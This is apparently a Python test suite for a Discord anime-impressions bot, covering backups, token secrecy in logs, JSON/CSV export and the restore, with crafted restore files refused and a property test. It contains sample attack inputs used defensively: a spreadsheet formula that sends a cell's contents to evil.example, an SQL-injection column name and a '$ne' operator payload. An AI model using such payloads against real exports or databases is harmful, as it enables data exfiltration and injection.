"""Operations: an online backup while the bot runs; secrets never reach logs or replies."""

from __future__ import annotations

import asyncio
import csv
import itertools
import json
import logging
import os
import shutil
import sqlite3
import sys
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot.client import ReviewBot
from tests.cli import run_tool
from tests.fakediscord import FakeDiscord, Member

REPO = Path(__file__).resolve().parent.parent


async def backup(database: Path, target: Path) -> tuple[int, str]:
    env = {k: v for k, v in os.environ.items() if k != "DISCORD_TOKEN"}
    env.update(DATABASE_PATH=str(database), PYTHONPATH=str(REPO))
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "bot", "backup", str(target),
        env=env, cwd=target.parent, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
    )  # fmt: skip
    output, _ = await asyncio.wait_for(process.communicate(), 60)
    assert process.returncode is not None
    return process.returncode, output.decode()


async def test_a_backup_taken_while_the_bot_runs_is_complete(bot: ReviewBot, alice: Member, tmp_path: Path) -> None:
    [choice, *_] = await alice.autocomplete("impression post", "series", "metallic rouge")
    form = await alice.slash("impression post", series=choice["value"], scope="completed")
    card = await alice.submit(form, text="Backed up, I hope.")
    number = card.impression_id

    status, output = await backup(bot.settings.database_path, tmp_path / "copy.sqlite3")

    assert status == 0, output
    assert "integrity ok" in output
    with sqlite3.connect(tmp_path / "copy.sqlite3") as conn:
        assert conn.execute("SELECT text FROM impressions WHERE id = ?", (number,)).fetchone() == (
            "Backed up, I hope.",
        )
    again, output = await backup(bot.settings.database_path, tmp_path / "copy.sqlite3")
    assert again == 1 and "exists already" in output


async def test_the_token_never_appears_in_logs_or_replies(
    bot: ReviewBot, fake: FakeDiscord, alice: Member, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.DEBUG):
        replies = [
            await alice.slash("about"),
            await alice.slash("series lookup", title="x" * 300),
            await alice.slash("impression show", id="series:1#999999"),
        ]
    logged = "\n".join(record.getMessage() + str(record.args) for record in caplog.records)
    assert fake.token not in logged
    assert all(fake.token not in reply.text for reply in replies)


async def test_each_command_is_logged_once_with_its_outcome(alice: Member, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.INFO, logger="bot.interactions"):
        await alice.slash("about")
        await asyncio.sleep(0.1)
    lines = [r.getMessage() for r in caplog.records if r.name == "bot.interactions"]
    assert len(lines) == 1 and lines[0].startswith(f"/about guild={alice.guild.id} user={alice.id} ok ")


async def run_cli(database: Path, *args: str) -> tuple[int, str]:
    return await run_tool(database, *args)


def table(database: Path, sql: str, *params: object) -> list[tuple[object, ...]]:
    with sqlite3.connect(database) as conn:
        return conn.execute(sql, params).fetchall()


async def test_an_export_restores_everything_into_an_empty_database(
    bot: ReviewBot, fake: FakeDiscord, alice: Member, mira: Member, tmp_path: Path, seeded_database: Path
) -> None:
    [choice, *_] = await alice.autocomplete("impression post", "series", "metallic rouge")
    first = await alice.submit(
        await alice.slash("impression post", series=choice["value"], scope="completed", overall=7), text="One."
    )
    number = first.impression_id
    await alice.submit(await alice.slash("impression edit", id=str(number), overall=9), text="One, revised.")
    second = await alice.submit(await alice.slash("impression post", series="series:2", scope="completed"), text="Two.")
    await mira.slash("mod hide", id=str(second.impression_id), reason="Testing the log")
    guild_id = alice.guild.id

    export = tmp_path / "export.json"
    status, output = await run_cli(bot.settings.database_path, "export", "--guild", str(guild_id), "--out", str(export))
    assert status == 0, output
    fresh = tmp_path / "fresh.sqlite3"
    shutil.copyfile(seeded_database, fresh)
    status, output = await run_cli(fresh, "import-export", str(export))
    assert status == 0, output

    for sql in (
        "SELECT id, series_id, author_id, text, score_overall, status, created_at, updated_at FROM impressions "
        "WHERE guild_id = ? ORDER BY id",
        "SELECT r.impression_id, r.text, r.score_overall FROM impression_revisions r JOIN impressions i "
        "ON i.id = r.impression_id WHERE i.guild_id = ? ORDER BY r.id",
        "SELECT actor_id, action, target_id, reason, before, after FROM audit_log WHERE guild_id = ? ORDER BY id",
        "SELECT text FROM member_notices WHERE guild_id = ? ORDER BY id",
    ):
        original = table(bot.settings.database_path, sql, guild_id)
        assert original, sql
        assert table(fresh, sql, guild_id) == original, sql

    again, output = await run_cli(fresh, "import-export", str(export))
    assert again == 1 and "already holds impressions" in output

    csv_dir = tmp_path / "csv"
    status, _ = await run_cli(
        bot.settings.database_path, "export", "--guild", str(guild_id), "--format", "csv", "--out", str(csv_dir)
    )
    assert status == 0 and (csv_dir / "impressions.csv").read_text().count("\n") == 3  # header and two rows

    # A spreadsheet opening the CSV runs a cell that starts like a formula: a member's text never does.
    formula = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
    await alice.submit(await alice.slash("impression post", series="series:3", scope="completed"), text=formula)
    status, _ = await run_cli(
        bot.settings.database_path, "export", "--guild", str(guild_id), "--format", "csv", "--out", str(tmp_path / "f")
    )
    with (tmp_path / "f" / "impressions.csv").open(newline="", encoding="utf-8") as handle:
        texts = [row["text"] for row in csv.DictReader(handle)]
    assert status == 0 and "'" + formula in texts and "One, revised." in texts


async def test_moderators_download_the_export(alice: Member, mira: Member) -> None:
    [choice, *_] = await alice.autocomplete("impression post", "series", "metallic rouge")
    await alice.submit(
        await alice.slash("impression post", series=choice["value"], scope="completed"), text="Exported."
    )

    reply = await mira.slash("mod export")

    assert reply.ephemeral
    [attachment] = reply.last["files"]
    assert attachment["filename"] == f"export-{alice.guild.id}.json"
    document = json.loads(attachment["content"])
    assert [row["text"] for row in document["impressions"]] == ["Exported."]


async def test_a_crafted_restore_file_is_refused_whole(
    bot: ReviewBot, alice: Member, tmp_path: Path, seeded_database: Path
) -> None:
    [choice, *_] = await alice.autocomplete("impression post", "series", "metallic rouge")
    await alice.submit(await alice.slash("impression post", series=choice["value"], scope="completed"), text="Mine.")
    export = tmp_path / "export.json"
    status, output = await run_cli(
        bot.settings.database_path, "export", "--guild", str(alice.guild.id), "--out", str(export)
    )
    assert status == 0, output
    genuine = json.loads(export.read_text())
    fresh = tmp_path / "fresh.sqlite3"
    shutil.copyfile(seeded_database, fresh)
    before = table(fresh, "SELECT count(*) FROM impressions"), table(fresh, "SELECT count(*) FROM member_notices")

    injected = "text) SELECT text FROM impressions --"
    crafted: list[tuple[str, dict[str, Any]]] = [
        ("column this bot does not know", {"member_notices": [{"guild_id": alice.guild.id, injected: 1}]}),
        (
            "belongs to another server",
            {
                "reviewer_bans": [
                    {
                        "guild_id": 999,
                        "user_id": 1,
                        "reason": "x",
                        "banned_by": 2,
                        "created_at": "2025-01-01T00:00:00+00:00",
                    }
                ]
            },
        ),
        ("should be int", {"impressions": [{**genuine["impressions"][0], "author_id": {"$ne": 0}}]}),
        ("not a date and time", {"impressions": [{**genuine["impressions"][0], "created_at": "yesterday"}]}),
        ("longer than an impression can be", {"impressions": [{**genuine["impressions"][0], "text": "x" * 4001}]}),
        (  # an edit waiting for approval: approved, it would be the impression's text
            "longer than an impression can be",
            {
                "impression_edits": [
                    {
                        "guild_id": alice.guild.id,
                        "impression_id": genuine["impressions"][0]["id"],
                        "edited_by": 1,
                        "scope": "completed",
                        "text": "x" * 4001,
                        "spoiler": 0,
                        "created_at": "2025-01-01T00:00:00+00:00",
                    }
                ]
            },
        ),
        (  # /mod log reads each change as an object
            "not a JSON object",
            {
                "audit_log": [
                    {
                        "guild_id": alice.guild.id,
                        "actor_id": 2,
                        "action": "settings",
                        "target_type": "guild",
                        "target_id": alice.guild.id,
                        "before": "[1]",
                        "after": "{}",
                        "created_at": "2025-01-01T00:00:00+00:00",
                    }
                ]
            },
        ),
        (  # another server's address on the site (its id in base 36 ends it), taken before it publishes
            "not an address this server can have",
            {"guild_settings": [{"guild_id": alice.guild.id, "public_slug": "anime-club-1"}]},
        ),
        (
            "not in the export",
            {
                "reports": [
                    {
                        "guild_id": alice.guild.id,
                        "impression_id": max(row["id"] for row in genuine["impressions"]) + 1000,
                        "reporter_id": 3,
                        "reason": "x",
                        "created_at": "2025-01-01T00:00:00+00:00",
                    }
                ]
            },
        ),
    ]
    crafted += [
        ("too large for any column", {"impressions": [{**genuine["impressions"][0], "episodes_watched": 10**30}]}),
        ("not a list of addresses", {"series": [{**genuine["series"][0], "sources": 5}]}),
        ("no server id", {"guild_id": 2**70}),
    ]
    for sentence, change in crafted:
        path = tmp_path / "crafted.json"
        path.write_text(json.dumps({**genuine, **change}))
        status, output = await run_cli(fresh, "import-export", str(path))
        assert status == 1 and sentence in output and "Traceback" not in output, (sentence, output)
        after = table(fresh, "SELECT count(*) FROM impressions"), table(fresh, "SELECT count(*) FROM member_notices")
        assert after == before, sentence

    # Text no database stores (NUL, half a UTF-16 pair) is read as every text from outside is: made storable.
    odd = tmp_path / "odd.json"
    odd.write_text(
        json.dumps({**genuine, "impressions": [{**genuine["impressions"][0], "text": "cut\u0000here \ud800"}]})
    )
    status, output = await run_cli(fresh, "import-export", str(odd))
    assert status == 0, output
    assert table(fresh, "SELECT count(*) FROM impressions WHERE text = 'cuthere \ufffd'") == [(1,)]

    # Any one value of the export replaced by any JSON value: restored, or refused whole with a sentence.
    # (Given as a document, not a file: the restore's own checks refuse what read_json would have cleaned.)
    from bot.models import Series
    from bot.render.impressions import render_impression_card, render_impression_modal
    from bot.store.export import ExportError, import_guild
    from bot.store.impressions import impression_of
    from tests.fakediscord.limits import check_modal

    values = st.recursive(
        st.none() | st.booleans() | st.floats() | st.text(max_size=8) | st.integers()
        | st.sampled_from([2**63, -(2**64), 10**30, "\x00", "half \ud800 a pair"]),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
        max_leaves=6,
    )  # fmt: skip
    places = [("series", 0, key) for key in genuine["series"][0]] + [("guild_id", None, None)]
    for name, rows in genuine.items():
        if name != "series" and isinstance(rows, list) and rows and isinstance(rows[0], dict):
            places += [(name, 0, key) for key in rows[0]]

    examples = itertools.count()

    @settings(max_examples=80, deadline=None)
    @given(st.sampled_from(places), values)
    @example(("impressions", 0, "text"), "half \ud800 a pair")  # no database encodes it
    @example(("series", 0, "title"), "cut\x00here")
    @example(("impressions", 0, "created_at"), "yesterday")  # every card showing it failed to render
    @example(("impressions", 0, "text"), "x" * 4001)  # its edit form could not be opened
    @example(("impressions", 0, "updated_at"), "2024-01-01T09:00:00+09:00")  # read as UTC, as the bot writes
    def restore_with_one_value_changed(place: tuple[str, int | None, str | None], value: object) -> None:
        name, row, key = place
        document = json.loads(json.dumps(genuine))
        if row is None:
            document[name] = value
        else:
            document[name][row][key] = value
        target = tmp_path / f"property-{next(examples)}.sqlite3"  # a file of its own: no other's log replays
        shutil.copyfile(seeded_database, target)
        try:
            import_guild(target, document)
        except ExportError as error:
            assert "\n" not in str(error)
            assert table(target, "SELECT count(*) FROM impressions") == before[0]
            return
        # What was restored reads back as the bot's own rows do: every date and time in UTC, and every
        # impression renders as a card (a date it could not read broke each card showing it).
        with sqlite3.connect(target) as conn:
            conn.row_factory = sqlite3.Row
            for row in conn.execute("SELECT * FROM impressions"):
                impression = impression_of(row)
                stamps = (impression.created_at, impression.updated_at)
                assert all(datetime.fromisoformat(stamp).utcoffset() == timedelta(0) for stamp in stamps), stamps
                render_impression_card(impression, Series(id=impression.series_id, title="Restored"))
                # …and its edit form opens: Discord's input holds what the text is
                assert not check_modal(render_impression_modal("x", "Edit", impression.text).to_dict())

    restore_with_one_value_changed()
